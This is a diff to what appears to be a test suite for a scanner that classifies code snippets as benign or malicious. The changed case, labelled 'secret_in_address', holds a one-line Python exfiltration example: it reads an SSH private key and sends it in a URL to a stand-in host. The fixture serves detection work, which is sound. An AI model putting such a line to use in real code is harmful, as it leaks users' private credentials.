@@ -454,7 +454,7 @@ CASES = {
     "code_from_weights_by_path": review("import runpy\nrunpy.run_path('data/model.dat')\n", "train.py"),
     "secret_in_address": malicious(
         "import urllib.request\n"
-        "urllib.request.urlopen('http://a.example.invalid/?' + open('/root/.ssh/id_rsa').read())\n",
+        "urllib.request.urlopen('http://a.example.invalid/?' + open('/home/me/.ssh/id_rsa').read())\n",
         "train.py",
     ),
     "benign_code_from_python": python(
